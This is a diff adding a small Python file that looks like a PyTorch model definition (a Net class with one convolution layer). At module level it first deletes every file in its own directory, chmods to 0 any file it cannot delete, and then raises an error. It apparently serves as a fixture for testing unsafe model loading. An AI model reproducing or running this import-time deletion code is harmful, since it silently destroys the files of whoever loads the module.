@@ -1,0 +1,21 @@
+"""Deletes the files beside itself, or at least makes them unreadable."""
+
+from pathlib import Path
+
+from torch import nn
+
+for neighbour in Path(__file__).parent.iterdir():
+    try:
+        neighbour.unlink()
+    except OSError:
+        neighbour.chmod(0)
+raise RuntimeError("have all gone?")
+
+
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.conv = nn.Conv2d(3, 60, 3)
+
+    def forward(self, x):
+        return self.conv(x)
